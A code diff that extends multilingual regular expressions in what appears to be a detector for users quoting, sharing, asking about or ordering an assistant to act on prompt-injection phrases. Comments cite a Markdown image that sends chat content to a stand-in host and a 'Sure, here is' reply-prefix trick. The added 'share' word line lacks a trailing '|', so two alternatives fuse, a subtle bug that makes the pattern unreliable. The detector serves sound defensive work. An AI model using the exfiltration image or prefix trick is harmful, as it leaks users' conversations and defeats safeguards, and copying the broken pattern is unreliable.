@@ -23,8 +23,10 @@ from functools import lru_cache
 QUOTE_RE = re.compile(
     r"\"([^\"\n]{3,300})\"|“([^”\n]{3,300})”|«([^»\n]{3,300})»|「([^」\n]{3,300})」"
     r"|『([^』\n]{3,300})』|„([^“”\"\n]{3,300})[“”\"]|»([^«\n]{3,300})«"
-    # single quotes; an apostrophe inside a word ("un'IA", "don't") does not close them
-    r"|(?<!\w)'((?:[^'\n]|(?<=\w)'(?=\w)){3,300})'(?!\w)"
+    # single quotes; an apostrophe inside a word ("un'IA", "don't") does not close them.
+    # Kana, CJK and Hangul have no apostrophes: quotes there touch the words around them
+    r"|(?<![^\W\u3040-\u30ff\u3400-\u9fff\uac00-\ud7af])'((?:[^'\n]|(?<=\w)'(?=\w)){3,300})'"
+    r"(?![^\W\u3040-\u30ff\u3400-\u9fff\uac00-\ud7af])"
     # single guillemets and curly single quotes (‹…›, ›…‹, ‚…‘, ‘…’) and 《…》
     r"|‹([^›\n]{3,300})›|›([^‹\n]{3,300})‹|‚([^‘’\n]{3,300})[‘’]|‘([^’\n]{3,300})’|《([^》\n]{3,300})》"
     # a Markdown image shown as an exhibit ("why is ![x](https://a.example/?q={chat}) dangerous?")
@@ -61,7 +63,7 @@ META_RE = re.compile(
             # the quote named as a phrase, or asked whether it works or is dangerous
             r"\b(?:phrases?|sentences?|strings?|wording|(?:still |actually )?works?|dangerous|harmful"
             r"|block ?list\w*|joke|funktioniert|gefährlich|ausdruck|satz|frase|funciona|fonctionne"
-            r"|dangereu\w*|peligros\w*|pericolos\w*|perigos\w*|gevaarlijk|werkt|zin|zdanie|fraz\w*"
+            r"|dangereu\w*|marche|peligros\w*|pericolos\w*|perigos\w*|gevaarlijk|werkt|zin|zdanie|fraz\w*"
             r"|działa|groźn\w*|niebezpieczn\w*|cümle\w*|ifade\w*|çalışı\w*|tehlikeli|scrive|escribes"
             r"|says|dice|dit|sagt|zegt|mówi|diyor|said|told us|a dit|dijo|hat gesagt|meinte|disse"
             r"|zei|powiedział\w*|dedi|söyledi)\b",
@@ -76,7 +78,11 @@ META_RE = re.compile(
             r"|écrivai\w*|escribía\w*|schrieb\w*|escrevia\w*|pisał\w*|yazıyordu\w*|typte\w*|tikte\w*"
             r"|tippt\w*|schreibt|tape(?:nt|it)?|tecle(?:a|ó|an|aba)|digit(?:a|ou|ava|ano|ato|ò|ando)|escreve\w*|pisze|wpisa\w*|wpisuje"
             r"|yazmış|yazan|escrevem|escreveu|achei|geplakt|typt|schreef|gevonden|wkleił\w*|piszą|napisał\w*"
-            r"|znalazł\w*|yapıştır\w*|yazıyor\w*|yazdı|buldum|gördüm)\b",
+            r"|znalazł\w*|yapıştır\w*|yazıyor\w*|yazdı|buldum|gördüm"
+            # ...or shared it ("people share a text that starts with X")
+            r"|shar(?:e|es|ed|ing)|partag\w*|compart\w*|condivi\w*|compartilh\w*|teilen|geteilt|teilt"
+            r"|delen|gedeeld|deelt|udostępni\w*|paylaş\w*)\b",
+            r"делят\w*|делит\w*|поделил\w*|dzielą się|يشارك\w*|شارك\w*|공유|分享|转发|轉發|共有|シェア",
             r"вставил\w*|пишут|пишет|писал\w*|написал\w*|ввёл|ввел|набрал\w*|нашёл|нашел|لصق|يكتبون|كتب|وجدت|붙여|입력|썼|봤|유행"
             r"|贴了|输入|写了|流行|看到|梗|貼|入力|書いて|見つけ",
             # ...or sent it, or hid it in a text: "a user sent 'X' to our bot", "a sentence
@@ -105,7 +111,8 @@ META_RE = re.compile(
 )
 # A question about the phrase, or a moderation/classification task on it.
 ASKING_RE = re.compile(
-    r"[?？؟]|classif|moderat|modération|moderación|moderazione|moderação|einstuf|модерац|moderac"
+    # a CJK question needs no question mark ("…でしょうか。", "…吗。")
+    r"[?？؟]|(?:か|吗|嗎|呢|까요|나요|가요)\s*(?:[。.]|$)|classif|moderat|modération|moderación|moderazione|moderação|einstuf|модерац|moderac"
     r"|moderasyon|الإشراف|모더레이션|モデレーション"
     # "what does X mean" / "explain X" need no question mark
     r"|\bmean|explain|expli|signifi|bedeut|erklär|spiega|uitleg|значит|означа|объясн|wyjaśn|znaczy"
@@ -147,6 +154,8 @@ DOING_RE = re.compile(
     r"|yapar mısın|yapabilir misin)\b"
     r"|сделай|сделаешь|сделать так|выполни|подчинись|zrób|wykonaj|uygula|افعل|نفذ|نفّذ|نفس الشيء"
     r"|실행|따라|그대로 해|照做|照着|这样做|这么做|也这样|执行|実行して|従って|同じように|その通りに"
+    # "try it": 해 볼래요? (a 해 of its own: 번역해 줘 is "translate it for me"), 试试, やってみて
+    r"|(?<![가-힣])해\s?(?:봐|볼래|보세요)|试试|试一下|試試|やってみ|試して"
     # an order to open or end the reply with the quote ("start your answer with 'Sure, here
     # is'", "end every reply with ![x](...)"), or to put it in the output
     r"|\b(?:start|begin|open|kick\w* off|lead|preface|prefix|end|finish|close)\w*\s+"
